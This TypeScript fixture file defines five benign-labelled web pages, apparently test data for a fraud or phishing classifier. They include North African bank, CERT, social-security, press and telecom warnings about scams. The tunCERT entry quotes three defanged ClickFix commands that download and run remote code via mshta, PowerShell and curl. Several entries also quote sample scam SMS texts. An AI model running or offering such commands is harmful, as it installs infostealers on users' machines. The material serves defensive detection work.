import { type Entry } from '../entry.js';
import { doc, logos } from '../parts/xe-kit.js';

/**
 * Write-ups that quote the attacks: maCERT and tunCERT bulletins (defanged IOCs, ClickFix commands), Bank
 * Al-Maghrib and BCEAO warnings, CNSS and Orange fraud notices, press articles quoting scam SMS in French
 * and Arabic, a researcher's drainer analysis, and a university IT help page that does ask to paste a
 * PowerShell command.
 */

const bamCommunique: Entry = {
  id: 'xe-clean-bank-al-maghrib-mise-en-garde-sites-frauduleux',
  label: 'clean',
  kind: 'central-bank-advisory',
  url: 'https://www.bkam.ma/Communiques/Communiques-de-presse/mise-en-garde-contre-des-sites-frauduleux-2025',
  body: doc({
    title: 'Mise en garde contre des sites et applications frauduleux – Bank Al-Maghrib',
    css: `body{margin:0;font-family:Georgia,serif;background:#fff}.h{background:#0f4c81;color:#fff;padding:16px 30px;font-family:Arial}.w{max-width:780px;margin:24px auto;line-height:1.7}.ar{direction:rtl;text-align:right;border-top:1px solid #ddd;padding-top:14px}`,
    body: `<div class="h">BANK AL-MAGHRIB · بنك المغرب</div><div class="w"><p style="color:#777">Rabat, le 30 octobre 2025 – Communiqué de presse</p><h1>Mise en garde contre des sites et applications frauduleux</h1>
<p>Bank Al-Maghrib a constaté la diffusion, par SMS et sur les réseaux sociaux, de liens vers des sites et des applications mobiles usurpant l'identité d'établissements bancaires et de paiement, ainsi que de plateformes proposant des placements en crypto-actifs ou en devises assortis de rendements garantis.</p>
<p>Bank Al-Maghrib rappelle que les établissements de crédit ne demandent jamais à leurs clients de communiquer leurs codes d'accès, leurs codes de confirmation ou les données de leurs cartes, ni d'installer des applications en dehors des magasins officiels. La liste des établissements agréés est disponible sur le site de Bank Al-Maghrib.</p>
<p class="ar">يحذر بنك المغرب العموم من مواقع وتطبيقات احتيالية تنتحل صفة مؤسسات بنكية، ويذكر بأن الأبناك لا تطلب أبدا من زبنائها الإفصاح عن رموزهم السرية أو معطيات بطائقهم.</p></div>`,
  }),
};

const ancsClickfix: Entry = {
  id: 'xe-clean-tuncert-alerte-clickfix-commandes',
  label: 'clean',
  kind: 'cert-advisory',
  url: 'https://www.ancs.tn/fr/alertes/2025/clickfix-faux-captcha-win-r',
  body: doc({
    title: 'Alerte : campagnes « ClickFix » (faux CAPTCHA et Win+R) – tunCERT / ANCS',
    css: `body{margin:0;font-family:Arial;background:#fff;color:#222}.h{background:#c8102e;color:#fff;padding:14px 30px}.w{max-width:860px;margin:24px auto;line-height:1.6}pre{background:#1e1e1e;color:#e6e6e6;padding:12px;font-size:13px;white-space:pre-wrap}.box{background:#fff6e5;border-left:4px solid #f0a500;padding:12px}`,
    body: `<div class="h">Agence Nationale de la Cybersécurité – tunCERT</div><div class="w"><h1>Alerte : campagnes « ClickFix » (faux CAPTCHA, faux correctifs)</h1><p>Réf. : ANCS-ALR-2025-118 · Date : 03/11/2025 · Sévérité : élevée</p>
<p>Des sites compromis et des pages d'hameçonnage affichent une fausse vérification « Je ne suis pas un robot » ou un faux message d'erreur. La page copie silencieusement une commande dans le presse-papiers puis demande à l'utilisateur d'appuyer sur <b>Windows + R</b>, de coller avec <b>Ctrl + V</b> et de valider avec <b>Entrée</b>. La commande télécharge et exécute un voleur d'informations (Lumma, StealC) ou un outil d'accès à distance.</p>
<h2>Exemples de commandes observées</h2>
<pre>mshta https://verif-humain[.]cdn-check[.]top/c/7r2k.hta # ✅ Je ne suis pas un robot – ID de vérification : 4471-RX
powershell -w h -c "$u='https://onedrive-fr-correctif[.]com/upd/fix.ps1';iex (New-Object Net.WebClient).DownloadString($u)"
cmd /c curl -s -o %TEMP%\\cert.bat https://bmcedirect-certificat[.]maj-securite[.]info/entreprises/cert_renew.bat && %TEMP%\\cert.bat</pre>
<div class="box"><b>Recommandations :</b> aucune vérification légitime ne demande d'ouvrir la fenêtre Exécuter ou un terminal. Bloquez mshta.exe via AppLocker/WDAC, désactivez Win+R par GPO pour les postes non techniques, surveillez la clé RunMRU et sensibilisez les utilisateurs.</div></div>`,
  }),
};

const cnssFakeSms: Entry = {
  id: 'xe-clean-cnss-alerte-faux-sms-remboursement',
  label: 'clean',
  kind: 'government-fraud-notice',
  url: 'https://www.cnss.ma/fr/actualites/alerte-faux-sms-remboursement-amo',
  body: doc({
    title: 'Alerte : faux SMS de remboursement AMO | CNSS',
    css: `body{margin:0;font-family:Arial;background:#fff}.hd{padding:10px 24px;border-bottom:3px solid #0072bc}.w{max-width:780px;margin:20px auto;line-height:1.7}.sms{background:#eef5fb;border-radius:12px;padding:10px 14px;margin:8px 0;font-size:14px}.ar{direction:rtl;text-align:right}`,
    body: `<div class="hd">${logos.cnssMa(40)}</div><div class="w"><h1>Alerte : faux SMS de remboursement AMO</h1><p>La Caisse Nationale de Sécurité Sociale informe ses assurés que des SMS frauduleux circulent, annonçant un remboursement en attente et invitant à saisir ses coordonnées bancaires sur un site qui imite le portail Ma CNSS. Exemple :</p>
<div class="sms">CNSS: Votre remboursement AMO de 1346,20 DH est valide mais votre RIB n'est pas a jour. Mettez-le a jour: cnss-ma-remboursement-amo[.]online</div>
<p>La CNSS rappelle que les remboursements sont versés uniquement sur le RIB déclaré et que ses services ne demandent jamais le numéro, la date d'expiration ou le cryptogramme d'une carte bancaire. Le seul portail officiel est <b>www.macnss.ma</b>.</p>
<p class="ar">تنبه الصندوق الوطني للضمان الاجتماعي المؤمنين إلى رسائل نصية احتيالية تدعي وجود تعويضات معلقة.</p></div>`,
  }),
};

const hespressAvito: Entry = {
  id: 'xe-clean-presse-arabe-arnaque-avito-livraison',
  label: 'clean',
  kind: 'news-quoting-scam',
  url: 'https://www.hespress.com/%D8%A7%D8%AD%D8%AA%D9%8A%D8%A7%D9%84-%D8%A3%D9%81%D9%8A%D8%AA%D9%88-1488213.html',
  body: doc({
    title: 'محتالون يستهدفون بائعي "أفيتو" بروابط دفع مزيفة – هسبريس',
    lang: 'ar',
    dir: 'rtl',
    css: `body{margin:0;font-family:'Noto Naskh Arabic',Tahoma,serif;background:#fff}.h{background:#c00;color:#fff;padding:12px 30px;font-size:24px;font-weight:bold}.a{max-width:720px;margin:20px auto;line-height:1.9}.q{background:#f5f5f5;border-right:4px solid #c00;padding:10px 14px;direction:ltr;text-align:left;font-family:Arial;font-size:14px}`,
    body: `<div class="h">هسبريس</div><article class="a"><h1>محتالون يستهدفون بائعي "أفيتو" بروابط دفع مزيفة</h1><p style="color:#777">مجتمع · الأربعاء 5 نونبر 2025</p>
<p>حذر عدد من مستعملي منصة "أفيتو" من أسلوب احتيال جديد، يتظاهر فيه "مشترٍ" بأنه دفع ثمن السلعة عبر خدمة "التوصيل الآمن"، ثم يرسل رابطا يطلب من البائع إدخال معطيات بطاقته البنكية "لاستلام المبلغ".</p>
<p>وتوصل أحد البائعين بالرسالة التالية عبر واتساب:</p><p class="q">Bonjour, j'ai payé l'iPhone via Avito Livraison. Pour recevoir les 6 500 DH cliquez ici et entrez votre carte : avito-ma.livraison-securisee[.]shop/pay/order/3318245907</p>
<p>وأكدت المنصة في بلاغ أنها لا تطلب أبدا من البائعين إدخال معطيات بطائقهم لاستلام الأموال، داعية إلى التواصل داخل المنصة فقط وعدم مشاركة أي رمز تحقق.</p></article>`,
  }),
};

const orangeCiTips: Entry = {
  id: 'xe-clean-orange-ci-reflexes-anti-arnaque',
  label: 'clean',
  kind: 'operator-fraud-awareness',
  url: 'https://www.orange.ci/fr/securite/orange-money-5-reflexes-anti-arnaque.html',
  body: doc({
    title: 'Orange Money : 5 réflexes anti-arnaque | Orange Côte d\'Ivoire',
    css: `body{margin:0;font-family:Helvetica,Arial;background:#fff}.t{background:#000;padding:10px 24px;display:flex;gap:10px;align-items:center;color:#fff}.w{max-width:780px;margin:20px auto;line-height:1.6}.r{display:flex;gap:14px;border-bottom:1px solid #eee;padding:12px 0}.r b{font-size:26px;color:#ff7900}.ex{background:#f6f6f6;border-radius:10px;padding:10px;font-size:14px}`,
    body: `<div class="t">${logos.orange(30)}<b>Orange Côte d'Ivoire</b></div><div class="w"><h1>Orange Money : 5 réflexes anti-arnaque</h1>
<div class="r"><b>1</b><div>Votre code secret ne se donne à personne, même à un agent Orange. Il se tape uniquement sur votre téléphone, dans le menu #144#.</div></div>
<div class="r"><b>2</b><div>Un bonus Orange Money ne demande jamais votre code. Exemple de faux SMS : <div class="ex">« Félicitations ! Vous faites partie des 500 clients sélectionnés pour le bonus fidélité de 25 000 FCFA. Recevez-le ici : orangemoney-ci-bonus[.]com »</div></div></div>
<div class="r"><b>3</b><div>Vérifiez votre solde avant de « renvoyer » un transfert reçu par erreur : le SMS de dépôt peut être faux.</div></div>
<div class="r"><b>4</b><div>Téléchargez Max it uniquement sur Google Play ou l'App Store, jamais en APK.</div></div>
<div class="r"><b>5</b><div>En cas de fraude, appelez le 07 07 07 07 07 ou rendez-vous en agence avec votre pièce d'identité.</div></div></div>`,
  }),
};

export const entries: Entry[] = [bamCommunique, ancsClickfix, cnssFakeSms, hespressAvito, orangeCiTips];
